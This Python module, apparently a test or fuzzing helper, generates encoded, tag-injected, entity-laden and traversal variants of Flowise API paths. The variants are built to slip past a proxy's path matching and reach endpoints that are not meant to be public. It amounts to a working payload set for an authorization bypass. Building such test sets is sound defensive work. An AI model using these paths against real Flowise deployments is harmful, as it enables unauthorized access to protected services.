"""Ways to write a path that Flowise takes for one that a public door mustn't open.

Flowise decodes what a client wrote once, takes HTML tags out of it and reads HTML entities, and looks then for the handler.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

OPEN = ("prediction", "leads", "chatmessage/abort")
TAGS = ("%3Cx%3E", "%3C/x%3E", "%3C!--x--%3E", "%3Cx/%3E", "<x>", "%253Cx%253E", "%3cscript%3Ea%3c/script%3E")
DOTS = ("..", "%2e%2e", ".%2E", "..;", "%252e%252e", "..%5c")
SLASHES = ("/", "%2f", "\\")
# What is opened here swallows what a proxy matches, up to what closes it.
PAIRS = (("%3Cx", "%3E"), ("%3Cx%20a=", "%3E"), ("%3C!--", "--%3E"), ("<x", ">"))


def spellings(*segments: str, host: str) -> dict[str, None]:
    """Of `/api/v1/` and the segments, at that host: encodings, tags, entities, case, slashes, traversals from the path and
    to it, whole URLs, and mixtures of them."""
    ways = (_of_itself(segments), _through_others(segments), _as_urls(segments, host), _mixed(segments, host))
    return dict.fromkeys(path for way in ways for path in way)


def _of_itself(segments: tuple[str, ...]) -> Iterator[str]:
    plain = "/api/v1/" + "/".join(segments)
    yield from (plain, f"{plain}/", f"{plain}//", f"/{plain}", plain.replace("/v1/", "//v1//"), f"{plain}?a=b")
    yield from (
        plain.upper(),
        plain.title(),
        f"{plain};a=b",
        f"{plain}.json",
        f"{plain}%00",
        f"{plain}%20",
        f"{plain}%09",
    )
    yield from (plain.replace("/v1/", "/./v1/./"), plain.replace("/v1/", "%2fv1%2F"), plain.replace("/v1/", "%252fv1/"))
    last = segments[-1]
    for tag in TAGS:
        yield plain.replace(last, f"{last[:3]}{tag}{last[3:]}")
        yield f"{plain}{tag}"
        yield plain.replace("/v1/", f"/v{tag}1/")
        yield f"/{tag}api/v1/" + "/".join(segments)
        yield f"/api/v1/{tag}" + "/".join(segments)
    yield plain.replace(last, _percent(last))
    yield plain.replace(last, _percent(last).replace("%", "%25"))
    yield plain.replace(last, f"%{ord(last[0]):02X}{last[1:]}")
    for slash in ("&sol;", "%26sol;", "%26sol%3B", "&#47;", "&#x2f;", "&%2347;"):
        yield "/api/v1" + slash + slash.join(segments)
        yield slash + "api/v1/" + "/".join(segments)
    yield plain.replace(last, f"&#{ord(last[0])};{last[1:]}")


def _through_others(segments: tuple[str, ...]) -> Iterator[str]:
    path = "/".join(segments)
    up = len(segments)
    for other in OPEN:
        here = other.count("/") + 1
        for dots in DOTS:
            for slash in SLASHES:
                yield f"/api/v1/{other}/" + f"{dots}{slash}" * here + path
                # A proxy that resolves the dots to match, and forwards them.
                yield f"/api/v1/{path}/" + f"{dots}{slash}" * up + other
                yield f"/api/v1/{path}/" + f"{dots}{slash}" * up + f"{other}/x"
            # What lies in the tag is taken out by Flowise, after the proxy has resolved it.
            for opening, closing in PAIRS:
                yield f"/api/v1/{path}{opening}/" + f"{dots}/" * up + f"{other}/{closing}"
                yield f"/api/v1/{path}/{opening}/" + f"{dots}/" * (up + 1) + f"{other}/{closing}"
        yield f"/api/v1/{other}/?/../../{path}"
        yield f"/api/v1/{other}#/../../{path}"
        yield f"/api/v1/{other}%3Cx%3E/../{path}"
        yield f"/api/v1/{other}%23/../../{path}"
        yield f"/api/v1/%3C{other}/%3E{path}"


def _as_urls(segments: tuple[str, ...], host: str) -> Iterator[str]:
    """A proxy may match the path of a whole URL, and forward the URL, in which a tag begins before its path."""
    path = "/".join(segments)
    for scheme in ("http", "https", "HTTP"):
        yield f"{scheme}://other.example/api/v1/{path}"
        yield f"{scheme}://{host}/api/v1/{path}"
        for other in OPEN:
            for opening, closing in PAIRS:
                swallowed = f"/api/v1/{other}/{closing}/api/v1/{path}"
                yield f"{scheme}://a{opening}@{host}{swallowed}"
                yield f"{scheme}://a:b{opening}@{host}{swallowed}"
                yield f"{scheme}://{host}{opening}{swallowed}"
                yield f"{scheme}://{host}:80{opening}{swallowed}"
                yield f"{scheme}:{opening}//{host}{swallowed}"


def _mixed(segments: tuple[str, ...], host: str, number: int = 200) -> Iterator[str]:
    """The same ones for each path, two to four means at once."""
    chance = random.Random(f"{segments}")
    plain = "/api/v1/" + "/".join(segments)
    known = [*_of_itself(segments), *_through_others(segments), *_as_urls(segments, host)]
    means: tuple[Callable[[str], str], ...] = (
        lambda path: _inserted(path, chance.choice(TAGS), chance),
        lambda path: _encoded(path, chance),
        lambda path: _inserted(
            path, chance.choice(("/", "/./", "//", ";", "%09", "%00", "&", "&sol;", "%26sol;")), chance
        ),
        lambda path: path.replace("/", chance.choice(SLASHES), chance.randint(1, 2)),
        lambda path: f"/api/v1/{chance.choice(OPEN)}/{chance.choice(DOTS)}/{chance.choice(DOTS)}{path}",
        lambda path: f"{path}/{chance.choice(DOTS)}/{chance.choice(DOTS)}/{chance.choice(OPEN)}/x",
    )
    for _ in range(number):
        path = plain if chance.random() < 0.5 else chance.choice(known)
        for way in chance.sample(means, chance.randint(2, 4)):
            path = way(path)
        yield path


def _percent(text: str) -> str:
    return "".join(f"%{ord(character):02x}" for character in text)


def _inserted(path: str, text: str, chance: random.Random) -> str:
    place = chance.randint(1, len(path))
    return path[:place] + text + path[place:]


def _encoded(path: str, chance: random.Random) -> str:
    """Some of its letters, once or twice encoded."""
    percent = chance.choice(("%", "%", "%25"))
    return "".join(
        _percent(letter).replace("%", percent) if letter.isalpha() and chance.random() < 0.2 else letter
        for letter in path
    )
